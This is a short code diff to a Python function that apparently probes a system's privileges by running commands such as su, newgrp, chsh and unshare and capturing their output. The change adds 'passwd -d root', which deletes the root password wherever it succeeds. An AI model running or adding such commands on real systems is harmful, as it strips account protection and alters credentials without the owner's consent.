@@ -14,9 +14,9 @@ import subprocess
 
 def run(job):
     got = {}
-    for words in (["su", "-c", "id -u"], ["mount", "-t", "tmpfs", "x", "/tmp"],
+    for words in (["su", "-c", "id -u"], ["passwd", "-d", "root"],
                   ["newgrp", "root"], ["chsh", "-s", "/bin/sh"],
-                  ["unshare", "-Ur", "id", "-u"], ["ping", "-c", "1", "127.1"]):
+                  ["unshare", "-Ur", "id", "-u"], ["ping", "-c1", "127.1"]):
         try:
             p = subprocess.run(words, capture_output=True, text=True,
                                stdin=subprocess.DEVNULL, timeout=3)
